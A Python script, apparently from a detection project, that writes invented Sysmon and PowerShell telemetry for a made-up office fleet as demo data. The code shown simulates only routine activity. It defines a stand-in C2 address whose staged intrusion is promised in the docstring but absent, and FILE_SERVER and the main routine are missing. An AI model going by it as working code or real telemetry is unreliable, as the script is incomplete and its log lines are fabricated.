#!/usr/bin/env python3
"""Writes the sample capture of `make demo`: twelve minutes of a small made-up fleet and one staged intrusion.

Five Windows hosts (Sysmon and PowerShell script blocks, as Winlogbeat ships them) and four Linux hosts (auditd and
eBPF lines) do what offices and servers do. On two of the Windows hosts an intrusion is staged: a document on
`fin-ws-014` starts a hidden PowerShell, which settles in and four minutes later moves on to the file server `fs-01`.

Hosts, people, GUIDs, hashes and command lines are invented; outside addresses are of the ranges reserved for
documentation. The staged commands are text in a log: nothing here runs, and their payloads name things that do not
exist. Every choice comes from one seeded generator, so the same program writes the same bytes.

    python3 deploy/demo/fleet.py --out deploy/demo/fleet.ndjson && zstd -19 --rm -f deploy/demo/fleet.ndjson

`labels.json`, written beside the capture, says when which host was under attack.
"""

import argparse
import base64
import datetime as dt
import hashlib
import json
import pathlib
import random
import sys

START = dt.datetime(2026, 3, 17, 9, 0, 0, tzinfo=dt.timezone.utc)
LENGTH_MS = 12 * 60_000
DOMAIN = "NORDHAVEN"
DNS_SUFFIX = "nordhaven.example"
C2_IP = "203.0.113.7"
C2_NAME = "cdn.update-relay.example"


def at(minute, second=0.0):
    """Milliseconds since the capture's start."""
    return int((minute * 60 + second) * 1000)


def iso(t):
    return (START + dt.timedelta(milliseconds=t)).strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"


def spaced(t):
    return iso(t)[:-1].replace("T", " ")


class Capture:
    """Lines of all hosts; sorted by time when written, those of one millisecond in the order they were made."""

    def __init__(self):
        self.lines = []

    def add(self, t, topic, value):
        if 0 <= t < LENGTH_MS:
            self.lines.append((t, len(self.lines), topic, value))

    def write(self, out):
        for _, _, topic, value in sorted(self.lines, key=lambda line: line[:2]):
            out.write(json.dumps({"topic": topic, "value": value}, separators=(",", ":")) + "\n")


# ---- Windows ----------------------------------------------------------------------------------------------------

S32 = "C:\\Windows\\System32\\"
PS = S32 + "WindowsPowerShell\\v1.0\\powershell.exe"
CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
TEAMS = "C:\\Program Files\\WindowsApps\\MSTeams_26032.204.4350.1_x64__8wekyb3d8bbwe\\ms-teams.exe"
DEFENDER = "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.26010.5-0\\MsMpEng.exe"
BACKUP = "C:\\Program Files\\Keelwater Backup\\kwagent.exe"
SYSTEM, LOCAL, NETWORK = "NT AUTHORITY\\SYSTEM", "NT AUTHORITY\\LOCAL SERVICE", "NT AUTHORITY\\NETWORK SERVICE"

CORE_DLLS = ["ntdll", "kernel32", "KernelBase", "msvcrt", "sechost", "rpcrt4", "advapi32", "ucrtbase", "combase"]
GUI_DLLS = ["user32", "gdi32", "gdi32full", "win32u", "imm32", "shell32", "shlwapi", "uxtheme", "oleaut32", "ole32",
            "SHCore", "dwmapi", "propsys", "WindowsCodecs"]
NET_DLLS = ["ws2_32", "IPHLPAPI", "dnsapi", "mswsock", "winhttp", "bcrypt", "bcryptprimitives", "crypt32", "cryptsp",
            "rsaenh", "wintrust", "profapi", "nsi"]
OTHER_DLLS = ["clbcatq", "sspicli", "powrprof", "umpdc",
              "cfgmgr32", "devobj", "netapi32", "wkscli", "srvcli", "netutils", "mpr", "version", "userenv",
              "Windows.Storage", "wldp", "TextShaping", "CoreMessaging", "CoreUIComponents", "msctf", "ntmarta"]

SVCHOSTS = [
    ("DcomLaunch", "-k DcomLaunch -p", SYSTEM), ("RpcSs", "-k rpcss -p", NETWORK),
    ("Schedule", "-k netsvcs -p -s Schedule", SYSTEM), ("ProfSvc", "-k netsvcs -p -s ProfSvc", SYSTEM),
    ("Winmgmt", "-k netsvcs -p -s Winmgmt", SYSTEM), ("wuauserv", "-k netsvcs -p -s wuauserv", SYSTEM),
    ("Dnscache", "-k NetworkService -p -s Dnscache", NETWORK), ("Dhcp", "-k LocalServiceNetworkRestricted -p -s Dhcp", LOCAL),
    ("EventLog", "-k LocalServiceNetworkRestricted -p -s EventLog", LOCAL), ("W32Time", "-k LocalService -s W32Time", LOCAL),
    ("CryptSvc", "-k NetworkService -p -s CryptSvc", NETWORK), ("DiagTrack", "-k utcsvc -p -s DiagTrack", SYSTEM),
    ("LanmanWorkstation", "-k NetworkService -p -s LanmanWorkstation", NETWORK), ("StateRepository", "-k appmodel -p -s StateRepository", SYSTEM),
]

# Registry keys that a program touches all day: (image's short name, key, value or none for a key event, detail).
REGISTRY = [
    ("Dhcp", "HKLM\\System\\CurrentControlSet\\Services\\Tcpip\\Parameters", None, ""),
    ("Dhcp", "HKLM\\System\\CurrentControlSet\\Services\\Tcpip\\Parameters\\Interfaces\\{5f0c1e7a-93d2-4e3e-8a51-77b1c2d0e911}\\LeaseObtainedTime", 13, "DWORD (0x69b913e0)"),
    ("Dhcp", "HKLM\\System\\CurrentControlSet\\Services\\Dnscache\\Parameters", None, ""),
    ("W32Time", "HKLM\\System\\CurrentControlSet\\Services\\W32Time\\SecureTimeLimits\\SecureTimeEstimated", 13, "QWORD (0x01dcb5a1-0x8f3e0c00)"),
    ("W32Time", "HKLM\\System\\CurrentControlSet\\Services\\W32Time\\SecureTimeLimits\\RunTime", None, ""),
    ("Schedule", "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tasks\\{0B6E42C1-7F14-4B55-9C1E-2A06D1A7F0E3}\\DynamicInfo", 13, "Binary Data"),
    ("Schedule", "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tasks\\{6D2F8A90-15C3-4D0B-B1C7-9E4480A2C5D8}\\DynamicInfo", 13, "Binary Data"),
    ("wuauserv", "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WindowsUpdate\\Auto Update", None, ""),
    ("wuauserv", "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WindowsUpdate\\Auto Update\\LastOnlineScanTimeForAppCategory", 13, "Binary Data"),
    ("DiagTrack", "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Diagnostics\\DiagTrack\\HeartBeats\\Default", None, ""),
    ("DiagTrack", "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Diagnostics\\DiagTrack\\HeartBeats\\Default\\LastHeartBeatTime", 13, "QWORD (0x01dcb5a1-0x90c2de40)"),
    ("CryptSvc", "HKLM\\SOFTWARE\\Microsoft\\SystemCertificates\\AuthRoot\\Certificates", None, ""),
    ("CryptSvc", "HKLM\\SOFTWARE\\Policies\\Microsoft\\SystemCertificates\\Root\\CRLs", None, ""),
    ("CryptSvc", "HKLM\\SOFTWARE\\Microsoft\\EnterpriseCertificates\\CA\\CTLs", None, ""),
    ("lsass", "HKLM\\SOFTWARE\\Microsoft\\SystemCertificates\\MY", None, ""),
    ("services", "HKLM\\System\\CurrentControlSet\\Services\\BITS\\Start", 13, "DWORD (0x00000003)"),
    ("explorer", "HKU\\{sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\FileExts\\.xlsx\\OpenWithList", None, ""),
    ("explorer", "HKU\\{sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\SessionInfo\\1\\ApplicationViewManagement", None, ""),
    ("explorer", "HKU\\{sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\MRUListEx", 13, "Binary Data"),
    ("explorer", "HKU\\{sid}_Classes\\Local Settings\\Software\\Microsoft\\Windows\\Shell\\BagMRU\\NodeSlots", 13, "Binary Data"),
    ("outlook", "HKU\\{sid}\\SOFTWARE\\Microsoft\\Office\\16.0\\Outlook\\Profiles\\Outlook\\0a0d020000000000c000000000000046\\000b0340", 13, "Binary Data"),
    ("outlook", "HKU\\{sid}\\SOFTWARE\\Microsoft\\Office\\16.0\\Common\\ExperimentConfigs\\Ecs\\outlook", None, ""),
    ("chrome", "HKU\\{sid}\\SOFTWARE\\Google\\Chrome\\StabilityMetrics\\user_experience_metrics.stability.exited_cleanly", 13, "DWORD (0x00000000)"),
    ("chrome", "HKU\\{sid}\\SOFTWARE\\Google\\Chrome\\BLBeacon", None, ""),
    ("backup", "HKLM\\SOFTWARE\\Keelwater\\Backup\\Agent\\LastCheckpoint", 13, "QWORD (0x01dcb5a1-0xa1f00200)"),
    ("backup", "HKLM\\SOFTWARE\\Keelwater\\Backup\\Agent\\Jobs", None, ""),
    ("wmiprvse", "HKLM\\SOFTWARE\\Microsoft\\WBEM\\CIMOM", None, ""),
    ("searchindexer", "HKLM\\SOFTWARE\\Microsoft\\Windows Search\\Gather\\Windows\\SystemIndex\\Sites", None, ""),
    ("searchindexer", "HKLM\\SOFTWARE\\Microsoft\\Windows Search\\UsnNotifier\\Windows\\Catalogs\\SystemIndex\\1", 13, "QWORD (0x00000000-0x1f3ac4e8)"),
    ("dfsr", "HKLM\\System\\CurrentControlSet\\Services\\DFSR\\Parameters\\Replication Groups", None, ""),
    ("dns", "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\DNS Server\\Zones", None, ""),
]

NT = "C:\\Windows\\SYSTEM32\\ntdll.dll"
KB = "C:\\Windows\\System32\\KERNELBASE.dll"
K32 = "C:\\Windows\\System32\\KERNEL32.DLL"
RPC = "C:\\Windows\\System32\\RPCRT4.dll"
TAIL = f"{K32}+17614|{NT}+526a1"
TRACES = {
    "psm": f"{NT}+9d4c4|C:\\Windows\\SYSTEM32\\psmserviceexthost.dll+1f2a1|C:\\Windows\\SYSTEM32\\psmserviceexthost.dll+180b2|{NT}+31f0d|{NT}+35a14|{TAIL}",
    "rpc": f"{NT}+9d4c4|{KB}+2c13e|c:\\windows\\system32\\rpcss.dll+2f1c9|{RPC}+76a53|{RPC}+1b2cb|{RPC}+2ca21|{NT}+33c4d|{TAIL}",
    "plain": f"{NT}+9d4c4|{KB}+2c13e|{K32}+1b8f5|{TAIL}",
    "wmi": f"{NT}+9d4c4|{KB}+2c13e|C:\\Windows\\system32\\wbem\\cimwin32.dll+1f3b7|C:\\Windows\\SYSTEM32\\framedynos.dll+8c12|{RPC}+76a53|{TAIL}",
    "defender": f"{NT}+9d4c4|{KB}+2c13e|C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.26010.5-0\\mpengine.dll+3b81c2|{TAIL}",
    "create": f"{NT}+9e6f4|{KB}+6c1d6|{KB}+6a2a3|{K32}+1cc03|{TAIL}",
    "csrss": f"{NT}+9d4c4|C:\\Windows\\SYSTEM32\\basesrv.DLL+2f21|C:\\Windows\\SYSTEM32\\CSRSRV.dll+5bb4|{NT}+6d43f",
    "profsvc": f"{NT}+9d4c4|{KB}+2c13e|c:\\windows\\system32\\profsvc.dll+13c0f|{RPC}+76a53|{NT}+33c4d|{TAIL}",
}


def hashes(path):
    d = hashlib.sha512(path.lower().encode()).hexdigest().upper()
    e = hashlib.md5(path.lower().encode()).hexdigest().upper()
    return f"SHA1={d[:40]},MD5={e},SHA256={d[40:104]},IMPHASH={d[96:128]}"


class Process:
    def __init__(self, guid, pid, image, command, user, integrity, logon):
        self.guid, self.pid, self.image, self.command = guid, pid, image, command
        self.user, self.integrity, self.logon = user, integrity, logon


class Windows:
    def __init__(self, capture, name, ip, user, seed, server=False):
        self.capture, self.name, self.ip, self.server = capture, name, ip, server
        self.rng = random.Random(f"{seed}/{name}")
        self.machine = self.rng.getrandbits(32)
        self.sequence = 0x50
        self.pid = 5000
        self.port = 49700 + self.rng.randrange(4000)
        self.user = f"{DOMAIN}\\{user}"
        self.home = f"C:\\Users\\{user}\\"
        self.sid = f"S-1-5-21-{self.rng.getrandbits(31)}-{self.rng.getrandbits(31)}-{self.rng.getrandbits(31)}-{1100 + self.rng.randrange(400)}"
        self.user_logon = f"0x{self.rng.randrange(0x40000, 0x90000):x}"
        self.known = {}
        self.alive = []
        self.boot()

    # What every event shares.

    def guid(self, t):
        seconds = int(START.timestamp()) + t // 1000
        self.sequence += self.rng.randrange(1, 3)
        low = self.sequence & 0xFFFF
        return (f"{{{self.machine:08x}-{seconds & 0xffff:04x}-{seconds >> 16:04x}-"
                f"{low & 0xff:02x}{low >> 8:02x}-000000001100}}")

    def emit(self, t, code, data, provider="Microsoft-Windows-Sysmon", pid=None):
        channel = provider + "/Operational"
        if provider.endswith("Sysmon"):
            data = {"RuleName": "-", "UtcTime": spaced(t), **data}
        winlog = {"computer_name": f"{self.name}.{DNS_SUFFIX}", "provider_name": provider, "event_id": str(code),
                  "channel": channel, "event_data": data}
        if pid:
            winlog["process"] = {"pid": pid}
        self.capture.add(t, "sysmon-logs", {
            "@timestamp": iso(t), "winlog": winlog,
            "agent": {"name": self.name, "type": "winlogbeat", "version": "8.17.0"},
            "host": {"name": self.name.lower(), "os": {"family": "windows"}},
            "event": {"code": str(code), "provider": provider}})

    def process(self, t, image, command=None, user=SYSTEM, integrity=None):
        self.pid += 4 * self.rng.randrange(1, 9)
        own = user == self.user
        integrity = integrity or ("Medium" if own else "System")
        logon = self.user_logon if own else {"S": "0x3e7", "L": "0x3e5", "N": "0x3e4"}[user.split("\\")[-1][0]]
        return Process(self.guid(t), self.pid, image, command or image, user, integrity, logon)

    def boot(self):
        """Processes that ran before the capture began: they show up in events, their creation does not."""
        t = -at(self.rng.randrange(200, 900))
        know = self.known
        know["system"] = self.process(t, "System", "")
        know["system"].pid = 4
        for name in ["smss", "csrss", "wininit", "services", "lsass", "winlogon"]:
            know[name] = self.process(t, S32 + name + ".exe")
        for name, arguments, user in SVCHOSTS:
            know[name] = self.process(t, S32 + "svchost.exe", f"{S32}svchost.exe {arguments}".replace("System32", "system32"), user)
        know["defender"] = self.process(t, DEFENDER, f'"{DEFENDER}"')
        know["spoolsv"] = self.process(t, S32 + "spoolsv.exe")
        know["backup"] = self.process(t, BACKUP, f'"{BACKUP}" --service')
        know["searchindexer"] = self.process(t, S32 + "SearchIndexer.exe", S32 + "SearchIndexer.exe /Embedding")
        know["wmiprvse"] = self.process(t, S32 + "wbem\\WmiPrvSE.exe", S32 + "wbem\\wmiprvse.exe", NETWORK)
        t += at(3)
        if not self.server:
            for name, image in [("explorer", "C:\\Windows\\explorer.exe"), ("sihost", S32 + "sihost.exe"),
                                ("taskhostw", S32 + "taskhostw.exe"), ("runtimebroker", S32 + "RuntimeBroker.exe"),
                                ("chrome", CHROME), ("outlook", OFFICE + "OUTLOOK.EXE"), ("teams", TEAMS)]:
                know[name] = self.process(t, image, f'"{image}"', self.user)
        if self.name.startswith("DC"):
            know["dns"] = self.process(t, S32 + "dns.exe")
            know["dfsr"] = self.process(t, S32 + "dfsrs.exe")
        self.alive = list(know.values())

    # One method for each kind of event.

    def create(self, t, image, command, parent, user=None, integrity=None, life=None, cwd=None, company="Microsoft Corporation",
               original=None, loads=14, description=None, access=True):
        """A process starts: its creation, the handles that creation opens, its libraries, and its end after `life` ms."""
        user = user or parent.user
        it = self.process(t, image, command, user, integrity or (parent.integrity if user == parent.user else None))
        base = image.rsplit("\\", 1)[-1]
        self.emit(t, 1, {
            "ProcessGuid": it.guid, "ProcessId": str(it.pid), "Image": image, "FileVersion": "10.0.22621.2506 (WinBuild.160101.0800)" if company.startswith("Micro") else "-",
            "Description": description or base.rsplit(".", 1)[0], "Product": "Microsoft® Windows® Operating System" if company.startswith("Micro") else "-",
            "Company": company, "OriginalFileName": original or base, "CommandLine": command,
            "CurrentDirectory": cwd or (S32 if user != self.user else self.home), "User": user,
            "LogonGuid": f"{{{self.machine:08x}-3a10-69b9-{int(it.logon, 16) & 0xffff:04x}-000000000000}}", "LogonId": it.logon,
            "TerminalSessionId": "1" if user == self.user else "0", "IntegrityLevel": it.integrity, "Hashes": hashes(image),
            "ParentProcessGuid": parent.guid, "ParentProcessId": str(parent.pid), "ParentImage": parent.image,
            "ParentCommandLine": parent.command, "ParentUser": parent.user})
        if access:
            self.open(t + 1, parent, it, "0x1fffff", "create")
            self.open(t + 2, self.known["csrss"], it, "0x1fffff", "csrss")
        clock = t + 3
        self.load(clock, it, image, company=company)
        for name in CORE_DLLS[:max(3, loads // 2)] + self.rng.sample(GUI_DLLS + NET_DLLS + OTHER_DLLS, max(0, loads - len(CORE_DLLS))):
            clock += self.rng.randrange(0, 9)
            self.load(clock, it, S32 + name + ".dll")
        if life:
            self.emit(t + life, 5, {"ProcessGuid": it.guid, "ProcessId": str(it.pid), "Image": image, "User": it.user})
        else:
            self.alive.append(it)
        return it

    def load(self, t, who, library, signed=True, company="Microsoft Corporation"):
        base = library.rsplit("\\", 1)[-1]
        ms = company.startswith("Micro")
        self.emit(t, 7, {
            "ProcessGuid": who.guid, "ProcessId": str(who.pid), "Image": who.image, "ImageLoaded": library,
            "FileVersion": "10.0.22621.2506 (WinBuild.160101.0800)" if signed and ms else "-", "Description": base if signed else "-",
            "Product": "Microsoft® Windows® Operating System" if signed and ms else "-", "Company": company if signed else "-",
            "OriginalFileName": base if signed else "-", "Hashes": hashes(library), "Signed": "true" if signed else "false",
            "Signature": ("Microsoft Windows" if ms else company) if signed else "-",
            "SignatureStatus": "Valid" if signed else "Unavailable", "User": who.user})

    def open(self, t, source, target, granted, trace):
        self.emit(t, 10, {
            "SourceProcessGUID": source.guid, "SourceProcessId": str(source.pid),
            "SourceThreadId": str(source.pid + 4 * self.rng.randrange(1, 40)), "SourceImage": source.image,
            "TargetProcessGUID": target.guid, "TargetProcessId": str(target.pid), "TargetImage": target.image,
            "GrantedAccess": granted, "CallTrace": TRACES.get(trace, trace), "SourceUser": source.user, "TargetUser": target.user})

    def registry(self, t, who, key, code=12, details="", kind=None):
        data = {"EventType": kind or ("SetValue" if code == 13 else "CreateKey"), "ProcessGuid": who.guid,
                "ProcessId": str(who.pid), "Image": who.image, "TargetObject": key.replace("{sid}", self.sid), "User": who.user}
        if code == 13:
            data["Details"] = details
        self.emit(t, code, data)

    def file(self, t, who, path):
        self.emit(t, 11, {"ProcessGuid": who.guid, "ProcessId": str(who.pid), "Image": who.image, "TargetFilename": path,
                          "CreationUtcTime": spaced(t), "User": who.user})

    def connect(self, t, who, ip, port, protocol="tcp", name="-", source_port=None):
        self.port += self.rng.randrange(1, 4)
        port_here = source_port or self.port
        self.flow(t, who, self.ip, port_here, ip, port, True, protocol, name)
        return port_here

    def accept(self, t, who, ip, remote_port, port, name="-", protocol="tcp"):
        self.flow(t, who, ip, remote_port, self.ip, port, False, protocol, name)

    def flow(self, t, who, source, source_port, target, target_port, initiated, protocol, name):
        self.emit(t, 3, {
            "ProcessGuid": who.guid, "ProcessId": str(who.pid), "Image": who.image, "User": who.user, "Protocol": protocol,
            "Initiated": "true" if initiated else "false", "SourceIsIpv6": "false", "SourceIp": source, "SourceHostname": "-",
            "SourcePort": str(source_port), "SourcePortName": "-", "DestinationIsIpv6": "false", "DestinationIp": target,
            "DestinationHostname": name, "DestinationPort": str(target_port), "DestinationPortName": "-"})

    def lookup(self, t, who, name, answer):
        self.emit(t, 22, {"ProcessGuid": who.guid, "ProcessId": str(who.pid), "QueryName": name, "QueryStatus": "0",
                          "QueryResults": f"::ffff:{answer};", "Image": who.image, "User": who.user})

    def pipe(self, t, who, name, made=False):
        self.emit(t, 17 if made else 18, {"EventType": "CreatePipe" if made else "ConnectPipe", "ProcessGuid": who.guid,
                                          "ProcessId": str(who.pid), "PipeName": name, "Image": who.image, "User": who.user})

    def script(self, t, who, text, path=""):
        bits = hashlib.md5(f"{self.name}{t}".encode()).hexdigest()
        self.emit(t, 4104, {"MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": text,
                            "ScriptBlockId": f"{bits[:8]}-{bits[8:12]}-4{bits[13:16]}-a{bits[17:20]}-{bits[20:]}", "Path": path},
                  "Microsoft-Windows-PowerShell", who.pid)

    # Ordinary life.

    def every(self, seconds, spread=0.4, first=None):
        """Moments about `seconds` apart."""
        t = self.rng.random() * seconds if first is None else first
        while t * 1000 < LENGTH_MS - 5000:
            yield int(t * 1000)
            t += seconds * (1 - spread + 2 * spread * self.rng.random())

    def background(self):
        know, rng = self.known, self.rng
        base = self.alive[:]
        # Handles: the system's services look at everybody, the virus scanner too.
        for t in self.every(0.40 if not self.server else 0.45, 0.9):
            kind = rng.random()
            target = rng.choice(base[2:])
            if kind < 0.45:
                self.open(t, know["DcomLaunch"], target, "0x1000", "psm")
            elif kind < 0.62:
                self.open(t, know["RpcSs"], target, "0x1000", "rpc")
            elif kind < 0.76:
                self.open(t, know["defender"], target, rng.choice(["0x1000", "0x1400"]), "defender")
            elif kind < 0.84:
                self.open(t, know["wmiprvse"], target, "0x1400", "wmi")
            elif kind < 0.90:
                self.open(t, know["ProfSvc"], target, "0x1400", "profsvc")
            elif kind < 0.96 and not self.server:
                self.open(t, know[rng.choice(["explorer", "taskhostw", "sihost"])], rng.choice([know["chrome"], know["outlook"], know["teams"], know["runtimebroker"]]), "0x1000", "plain")
            else:
                self.open(t, know[rng.choice(["RpcSs", "Schedule", "CryptSvc"])], know["lsass"], "0x1000", "rpc")
        usable = [row for row in REGISTRY if row[0] in know]
        for t in self.every(0.62, 0.9):
            name, key, code, details = rng.choice(usable)
            if code:
                self.registry(t, know[name], key, 13, details)
            else:
                self.registry(t, know[name], key, 12, kind=rng.choice(["CreateKey", "CreateKey", "DeleteValue"]) if name == "wuauserv" else "CreateKey")
        for t in self.every(4, 0.8):
            self.load(t, rng.choice(base[7:]), S32 + rng.choice(OTHER_DLLS + NET_DLLS) + ".dll")
        # Files: logs, caches, the indexer, the backup agent.
        for t in self.every(6, 0.8):
            number = rng.randrange(1, 400)
            self.file(t, *rng.choice([
                (know["EventLog"], "C:\\Windows\\ServiceState\\EventLog\\Data\\lastalive1.dat"),
                (know["backup"], f"C:\\ProgramData\\Microsoft\\Keelwater\\index\\chunk{number:04d}.dat"),
                (know["searchindexer"], f"C:\\ProgramData\\Microsoft\\Search\\Data\\Applications\\Windows\\Projects\\SystemIndex\\Indexer\\CiFiles\\00010{number:03d}.ci"),
                (know["DiagTrack"], "C:\\ProgramData\\Microsoft\\Diagnosis\\EventTranscript\\EventTranscript.db-wal"),
                (know["Schedule"], f"C:\\Windows\\Prefetch\\TASKHOSTW.EXE-2E5D4B{number % 256:02X}.pf")]))
        # Network of every host.
        for t in self.every(45):
            self.connect(t, know["Dnscache"], "10.20.0.10", 53, "udp")
        for t in self.every(240):
            self.connect(t, know["W32Time"], "10.20.0.10", 123, "udp", source_port=123)
        for t in self.every(90):
            self.lookup(t, know["backup"], "vault." + DNS_SUFFIX, "10.20.1.41")
            self.connect(t + 30, know["backup"], "10.20.1.41", 8443)
        if not self.name.startswith("DC"):
            for t in self.every(100):
                self.connect(t, know["lsass"], "10.20.0.10", 88)
                self.connect(t + 20, know["lsass"], "10.20.0.10", 389)
        for t in self.every(20):
            self.pipe(t, *rng.choice([(know["spoolsv"], "\\spoolss"), (know["LanmanWorkstation"], "\\wkssvc"), (know["searchindexer"], "\\lsass"),
                                      (know["backup"], "\\lsass"), (know["W32Time"], "\\W32TIME_ALT")]), made=rng.random() < 0.2)
        # Short-lived system processes.
        for t in self.every(38):
            image, command, parent, life = rng.choice([
                (S32 + "taskhostw.exe", "taskhostw.exe", "Schedule", 20_000), (S32 + "dllhost.exe", S32 + "DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}", "DcomLaunch", 6_000),
                (S32 + "wbem\\WmiPrvSE.exe", S32 + "wbem\\wmiprvse.exe -Embedding", "DcomLaunch", 45_000), (S32 + "svchost.exe", S32 + "svchost.exe -k wsappx -p -s AppXSvc", "services", 60_000),
                (S32 + "SearchProtocolHost.exe", '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe12_ Global\\UsGthrCtrlFltPipeMssGthrPipe12 1 -2147483646', "searchindexer", 30_000),
                (S32 + "SearchFilterHost.exe", '"C:\\Windows\\system32\\SearchFilterHost.exe" 836 2484 2472 812 {0E5DCEC5-7795-4E38-9621-94DFD9F9A421}', "searchindexer", 30_000),
                (S32 + "MoUsoCoreWorker.exe", S32 + "mousocoreworker.exe -Embedding", "DcomLaunch", 50_000)])
            self.create(t, image, command, know[parent], SYSTEM, life=life)
        # The scanner's own updates and the software updater.
        self.create(at(3, 17), DEFENDER.replace("MsMpEng", "MpCmdRun"), f'"{DEFENDER.replace("MsMpEng", "MpCmdRun")}" SignatureUpdate -ScheduleJob -RestrictPrivileges', know["Schedule"], SYSTEM, life=9_000)
        updater = "C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe"
        it = self.create(at(5 + rng.randrange(5), 11), updater, f'"{updater}" /ua /installsource scheduler', know["Schedule"], SYSTEM, life=15_000)
        self.lookup(at(10, 12), know["wuauserv"], "update.vendor.example", "198.51.100.20")
        self.connect(at(10, 13), know["wuauserv"], "198.51.100.20", 443)
        self.alive.append(it)
        if not self.server:
            self.desk()

    def desk(self):
        """A person at a workstation: browser, mail, chat, documents on the share."""
        know, rng = self.known, self.rng
        for t in self.every(26):
            self.create(t, CHROME, f'"{CHROME}" --type={rng.choice(["renderer", "renderer", "utility"])} --field-trial-handle={rng.randrange(1000, 9000)},i --lang=en-US --renderer-client-id={rng.randrange(20, 400)}',
                        know["chrome"], integrity="Low", life=rng.randrange(20_000, 200_000), company="Google LLC", loads=16)
        for t in self.every(9):
            name, ip = rng.choice([("www.news.example", "198.51.100.31"), ("mail.nordhaven.example", "198.51.100.44"), ("cdn.shop.example", "198.51.100.52"), ("docs.suite.example", "198.51.100.61")])
            self.lookup(t, know["chrome"], name, ip)
            self.connect(t + 25, know["chrome"], ip, 443, rng.choice(["tcp", "tcp", "udp"]))
        for t in self.every(33):
            self.connect(t, know["outlook"], "198.51.100.44", 443)
            self.file(t + 300, know["outlook"], f"{self.home}AppData\\Local\\Microsoft\\Outlook\\mail{rng.randrange(3)}.ost.tmp")
        for t in self.every(30):
            self.connect(t, know["teams"], "198.51.100.70", 443)
            self.file(t + 200, know["teams"], f"{self.home}AppData\\Local\\Packages\\MSTeams_8wekyb3d8bbwe\\LocalCache\\Logs\\chat{rng.randrange(9)}.log")
        for t in self.every(12):
            self.file(t, know["chrome"], f"{self.home}AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\f_{rng.randrange(0x4000, 0x9000):06x}")
        # The finance desk has had its share open since before the capture.
        for t in self.every(75):
            if not self.name.startswith("FIN"):
                self.share(t)
        for t in self.every(170):
            excel = self.create(t, OFFICE + "EXCEL.EXE", f'"{OFFICE}EXCEL.EXE" "\\\\fs-01\\finance\\plan-{rng.randrange(20, 27)}.xlsx"', know["explorer"], life=120_000, loads=26)
            self.registry(t + 900, excel, "HKU\\{sid}\\SOFTWARE\\Microsoft\\Office\\16.0\\Excel\\File MRU", 12)
            self.file(t + 1500, excel, f"{self.home}AppData\\Roaming\\Microsoft\\Office\\Recent\\plan.LNK")
        for t in self.every(110):
            self.create(t, S32 + "RuntimeBroker.exe", S32 + "RuntimeBroker.exe -Embedding", know["DcomLaunch"], self.user, life=60_000)
            self.create(t + 4000, S32 + "backgroundTaskHost.exe", f'"{S32}backgroundTaskHost.exe" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca', know["DcomLaunch"], self.user, integrity="AppContainer", life=9_000)

    def share(self, t):
        """The file server's share is read; the server sees the same connection."""
        port = self.connect(t, self.known["system"], FILE_SERVER.ip, 445)
        FILE_SERVER.accept(t + 2, FILE_SERVER.known["system"], self.ip, port, 445)

    def console(self, t, command, parent, user=None, image=PS, life=12_000, cwd=None, integrity=None):
        """A console program with its conhost."""
        it = self.create(t, image, command, parent, user, life=life, cwd=cwd, integrity=integrity, loads=18 if image == PS else 8)
        self.create(t + 25, S32 + "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", it, life=max(400, life - 60), loads=8)
        return it


def housekeeping(host):
    """An administrator's scheduled scripts."""
    know = host.known
    for n, t in enumerate(host.every(200, 0.2)):
        name, text = [("disk-report.ps1", "$volumes = Get-Volume | Where-Object DriveType -eq 'Fixed'\n$volumes | Select-Object DriveLetter, Size, SizeRemaining | Export-Csv -NoTypeInformation -Path 'C:\\Program Files\\Ops\\reports\\disk.csv'"),
                      ("service-check.ps1", "foreach ($name in 'Spooler', 'LanmanServer', 'KeelwaterAgent') {\n  $service = Get-Service -Name $name\n  Write-Output \"$name $($service.Status)\"\n}"),
                      ("event-count.ps1", "Get-WinEvent -LogName Application -MaxEvents 200 | Group-Object ProviderName | Sort-Object Count -Descending | Select-Object -First 10")][n % 3]
        path = f"C:\\Program Files\\Ops\\{name}"
        it = host.console(t, f'powershell.exe -NonInteractive -File "{path}"', know["Schedule"], SYSTEM)
        host.file(t + 500, it, f"C:\\Windows\\Temp\\__PSScriptPolicyTest_{host.rng.randrange(1 << 24):06x}.k1q.ps1")
        host.load(t + 600, it, "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll")
        host.script(t + 900, it, text, path)
        host.pipe(t + 300, it, f"\\PSHost.1341{host.rng.randrange(10**14):014d}.{it.pid}.DefaultAppDomain.powershell", made=True)


def developer(host):
    """A developer builds a web front end now and then."""
    know, work = host.known, "C:\\src\\storefront\\"
    code = "C:\\Program Files\\Microsoft VS Code\\Code.exe"
    editor = host.create(at(0, 20), code, f'"{code}" {work}', know["explorer"], loads=24)
    for t in host.every(110):
        git = "C:\\Program Files\\Git\\cmd\\git.exe"
        host.create(t, git, "git.exe status -z -uall", editor, life=700, cwd=work, company="The Git Development Community", loads=8)
